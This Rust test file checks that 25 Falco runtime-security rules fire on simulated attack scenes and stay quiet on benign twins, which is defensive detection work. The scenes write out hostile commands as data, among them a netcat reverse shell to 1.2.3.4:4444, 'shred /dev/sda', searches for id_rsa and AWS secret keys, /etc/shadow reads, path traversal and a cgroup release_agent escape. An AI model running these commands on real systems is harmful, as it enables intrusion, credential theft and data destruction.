//! For each of the 25 stable rules an act that trips it and a twin, as like it as can be, that does not.

use afterimage_detect::RuleSet;
use afterimage_format::{
    FactKey, FieldTag,
    layout::exec::{EXE_LOWER_LAYER, EXE_MEMFD, EXE_UPPER_LAYER},
};

use crate::{
    falco_rules::PATH,
    scene::{DAC_OVERRIDE, ENOENT, Program, READ, REWRITE, SECOND, SYS_ADMIN, SYS_MODULE, Scene, address},
};

struct Act {
    rule: &'static str,
    trips: Scene,
    benign: Scene,
}

/// A web server, process 100.
fn server() -> Scene {
    Scene::new().run(1, 100, "/usr/sbin/nginx", &["nginx", "-g", "daemon off;"])
}

fn shell_with_tty(parent: &str, tty: u64) -> Scene {
    let program = Program { tty, ..Program::new("/bin/bash", &["bash"]) };
    Scene::new().run(1, 100, parent, &["x"]).start(100, 101, &program)
}

fn files() -> Vec<Act> {
    let traversal = |claimed: &str| server().open_as(100, claimed, "/etc/passwd", READ, 5);
    let late = |wait: u64| server().wait(wait).open(100, "/etc/shadow", READ, 5);
    let reads = |path: &str| {
        Scene::new().run(1, 100, "/usr/bin/python3", &["python3", "x.py"]).open(100, path, READ, 3)
    };
    let log = |flags: u64| {
        Scene::new().run(1, 100, "/usr/bin/tee", &["tee"]).open(100, "/var/log/auth.log", flags, 3)
    };
    let link = |call: &str, from: &str| {
        let fields: &[(FieldTag, &[u8])] = &[(FieldTag::PATH, from.as_bytes()), (FieldTag::PATH2, b"/tmp/x")];
        Scene::new().run(1, 100, "/bin/ln", &["ln"]).call(100, call, &[0, 0], 0, fields)
    };
    let release = |path: &str, caps: u64| {
        let program = Program { caps, ..Program::new("/bin/sh", &["sh"]) };
        Scene::new().start(1, 100, &program).open(100, path, REWRITE, 3)
    };
    let admin = SYS_ADMIN | DAC_OVERRIDE;
    vec![
        Act {
            rule: "Directory traversal monitored file read",
            trips: traversal("/var/www/../../etc/passwd"),
            benign: traversal("/etc/passwd"),
        },
        Act {
            rule: "Read sensitive file trusted after startup",
            trips: late(6 * SECOND),
            benign: late(SECOND),
        },
        Act {
            rule: "Read sensitive file untrusted",
            trips: reads("/etc/shadow"),
            benign: reads("/etc/hostname"),
        },
        Act { rule: "Clear Log Activities", trips: log(REWRITE), benign: log(0o1 | 0o2000) },
        Act {
            rule: "Create Symlink Over Sensitive Files",
            trips: link("symlink", "/etc/shadow"),
            benign: link("symlink", "/etc/motd"),
        },
        Act {
            rule: "Create Hardlink Over Sensitive Files",
            trips: link("link", "/etc/shadow"),
            benign: link("link", "/etc/motd"),
        },
        Act {
            rule: "Detect release_agent File Container Escapes",
            trips: release("/sys/fs/cgroup/rdma/release_agent", admin),
            benign: release("/sys/fs/cgroup/rdma/release_agent", DAC_OVERRIDE),
        },
    ]
}

fn programs() -> Vec<Act> {
    let run =
        |path: &str, argv: &[&str]| Scene::new().run(1, 100, "/bin/sh", &["sh"]).run(100, 101, path, argv);
    let on_layer = |flags: u64| {
        let program = Program { flags, ..Program::new("/tmp/x", &["/tmp/x"]) };
        Scene::new().run(1, 100, "/bin/sh", &["sh"]).start(100, 101, &program)
    };
    let debugfs = |privileged: &str| {
        let scene = Scene::new().fact(FactKey::Privileged, privileged);
        scene.run(1, 100, "/sbin/debugfs", &["debugfs", "/dev/sda1"])
    };
    vec![
        Act {
            rule: "Run shell untrusted",
            trips: server().run(100, 101, "/bin/sh", &["sh", "-c", "id"]),
            benign: server().run(100, 101, "/usr/bin/id", &["id"]),
        },
        Act {
            rule: "Netcat Remote Code Execution in Container",
            trips: run("/bin/nc", &["nc", "-e", "/bin/sh", "1.2.3.4", "4444"]),
            benign: run("/bin/nc", &["nc", "1.2.3.4", "4444"]),
        },
        Act {
            rule: "Search Private Keys or Passwords",
            trips: run("/usr/bin/find", &["find", "/", "-name", "id_rsa"]),
            benign: run("/usr/bin/find", &["find", "/", "-name", "x.txt"]),
        },
        Act {
            rule: "Remove Bulk Data from Disk",
            trips: run("/usr/bin/shred", &["shred", "/dev/sda"]),
            benign: run("/bin/rm", &["rm", "x"]),
        },
        Act {
            rule: "Debugfs Launched in Privileged Container",
            trips: debugfs("true"),
            benign: debugfs("false"),
        },
        Act {
            rule: "Find AWS Credentials",
            trips: run("/bin/grep", &["grep", "-r", "AWS_SECRET_ACCESS_KEY", "/"]),
            benign: run("/bin/grep", &["grep", "-r", "needle", "/"]),
        },
        Act {
            rule: "Execution from /dev/shm",
            trips: run("/dev/shm/x", &["/dev/shm/x"]),
            benign: run("/usr/bin/x", &["/usr/bin/x"]),
        },
        Act {
            rule: "Drop and execute new binary in container",
            trips: on_layer(EXE_UPPER_LAYER),
            benign: on_layer(EXE_LOWER_LAYER),
        },
        Act { rule: "Fileless execution via memfd_create", trips: on_layer(EXE_MEMFD), benign: on_layer(0) },
    ]
}

fn people() -> Vec<Act> {
    const PASSWD: &[u8] =
        b"root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1:d:/:/bin/false\nalice:x:1000:1000::/:/bin/sh\n";
    let session = |uid: u64| {
        let length = i64::try_from(PASSWD.len()).unwrap();
        let program = Program { uid, ..Program::new("/usr/bin/id", &["id"]) };
        Scene::new()
            .run(1, 100, "/usr/sbin/sshd", &["sshd"])
            .open(100, "/etc/passwd", READ, 3)
            .call(100, "read", &[3, 0, 4096], length, &[(FieldTag::PAYLOAD, PASSWD)])
            .start(100, 101, &program)
    };
    vec![
        Act { rule: "System user interactive", trips: session(1), benign: session(1000) },
        Act {
            rule: "Terminal shell in container",
            trips: shell_with_tty("/usr/bin/runc", 136 << 20),
            benign: shell_with_tty("/usr/bin/runc", 0),
        },
    ]
}

/// An answer that gives the API server's name the address 10.96.0.1.
fn api_server_answer() -> Vec<u8> {
    let mut m = vec![0, 1, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0];
    for label in ["kubernetes", "default", "svc", "cluster", "local"] {
        m.push(u8::try_from(label.len()).unwrap());
        m.extend_from_slice(label.as_bytes());
    }
    m.extend_from_slice(b"\0\0\x01\0\x01\xc0\x0c\0\x01\0\x01\0\0\0\x05\0\x04\x0a\x60\0\x01");
    m
}

fn network() -> Vec<Act> {
    let client = || Scene::new().run(1, 100, "/usr/bin/curl", &["curl", "x"]);
    let ask = |peer: &str| {
        let (answer, dns) = (api_server_answer(), address("10.96.0.10:53"));
        let fields: &[(FieldTag, &[u8])] = &[(FieldTag::PAYLOAD, &answer), (FieldTag::SOCKADDR, &dns)];
        let length = i64::try_from(answer.len()).unwrap();
        client()
            .call(100, "socket", &[2, 2, 0], 3, &[])
            .call(100, "recvfrom", &[3, 0, 512, 0, 0, 0], length, fields)
            .tcp(100, 4)
            .connect(100, 4, "172.17.0.2:40000", peer, 0)
    };
    let ssh = |port: &str| {
        let scene = Scene::new().run(1, 100, "/usr/bin/ssh", &["ssh", "host"]).tcp(100, 3);
        scene.connect(100, 3, "172.17.0.2:40000", &format!("93.184.216.34:{port}"), 0)
    };
    let redirect = |new: i64| {
        let scene = Scene::new().run(1, 100, "/usr/bin/python3", &["python3"]).tcp(100, 3);
        let scene = scene.connect(100, 3, "172.17.0.2:40000", "93.184.216.34:4444", 0);
        scene.call(100, "dup2", &[3, new.cast_unsigned()], new, &[])
    };
    let packet = |domain: u64| client().call(100, "socket", &[domain, 3, 768], 3, &[]);
    vec![
        Act {
            rule: "Contact K8S API Server From Container",
            trips: ask("10.96.0.1:443"),
            benign: ask("10.96.0.2:443"),
        },
        Act { rule: "Packet socket created in container", trips: packet(17), benign: packet(2) },
        Act {
            rule: "Redirect STDOUT/STDIN to Network Connection in Container",
            trips: redirect(1),
            benign: redirect(7),
        },
        Act { rule: "Disallowed SSH Connection Non Standard Port", trips: ssh("443"), benign: ssh("22") },
    ]
}

fn kernel() -> Vec<Act> {
    let module = |caps: u64| {
        let program = Program { caps, ..Program::new("/sbin/insmod", &["insmod", "x.ko"]) };
        Scene::new().start(1, 100, &program).call(
            100,
            "finit_module",
            &[3, 0, 0],
            -1,
            &[(FieldTag::PATH, b"")],
        )
    };
    let ptrace = |request: u64| {
        Scene::new().run(1, 100, "/tmp/inject", &["inject"]).call(
            100,
            "ptrace",
            &[request, 200, 0, 0],
            0,
            &[],
        )
    };
    vec![
        Act {
            rule: "Linux Kernel Module Injection Detected",
            trips: module(SYS_MODULE),
            benign: module(DAC_OVERRIDE),
        },
        Act { rule: "PTRACE attached to process", trips: ptrace(16), benign: ptrace(17) },
        Act { rule: "PTRACE anti-debug attempt", trips: ptrace(0), benign: ptrace(17) },
    ]
}

#[test]
#[cfg_attr(not(falco_rules), ignore = "needs the official Falco rules: set AFTERIMAGE_FALCO_RULES")]
fn each_stable_rule_fires_on_its_act_and_not_on_the_benign_twin() {
    let rules = RuleSet::load(&[PATH]).unwrap();
    let acts: Vec<Act> = [files(), programs(), people(), network(), kernel()].into_iter().flatten().collect();
    let mut names: Vec<&str> = acts.iter().map(|act| act.rule).collect();
    names.sort_unstable();
    let mut all: Vec<&str> = rules.rules().iter().map(|rule| rule.name.as_str()).collect();
    all.sort_unstable();
    assert_eq!(names, all, "one act for each rule");
    for act in acts {
        let fired = act.trips.fired(&rules);
        assert!(fired.contains(act.rule), "`{}` did not fire; fired: {fired:?}", act.rule);
        let fired = act.benign.fired(&rules);
        assert!(!fired.contains(act.rule), "`{}` fired on the benign twin", act.rule);
    }
}

#[test]
#[cfg_attr(not(falco_rules), ignore = "needs the official Falco rules: set AFTERIMAGE_FALCO_RULES")]
fn container_rules_are_silent_on_the_host_and_failed_opens_count_for_traversal() {
    let rules = RuleSet::load(&[PATH]).unwrap();
    let packet = Scene::new().run(1, 100, "/usr/bin/x", &["x"]).call(100, "socket", &[17, 3, 768], 3, &[]);
    assert!(packet.fired(&rules).contains("Packet socket created in container"));
    assert!(packet.on_host().fired(&rules).is_empty());
    let failed = server().open(100, "/var/www/../../root/.ssh/id_rsa", READ, ENOENT);
    assert!(failed.fired(&rules).contains("Directory traversal monitored file read"));
}

#[test]
#[cfg_attr(not(falco_rules), ignore = "needs the official Falco rules: set AFTERIMAGE_FALCO_RULES")]
fn a_symlink_to_a_sensitive_file_does_not_hide_its_reading() {
    let rules = RuleSet::load(&[PATH]).unwrap();
    let scene = Scene::new().run(1, 100, "/usr/bin/python3", &["python3"]);
    let scene = scene.open_as(100, "/tmp/innocent", "/etc/shadow", READ, 3);
    let hits = scene.hits(&rules);
    let hit = hits.iter().find(|hit| hit.name == "Read sensitive file untrusted").expect("fires");
    assert!(hit.message.contains("file=/etc/shadow "), "{}", hit.message);
}
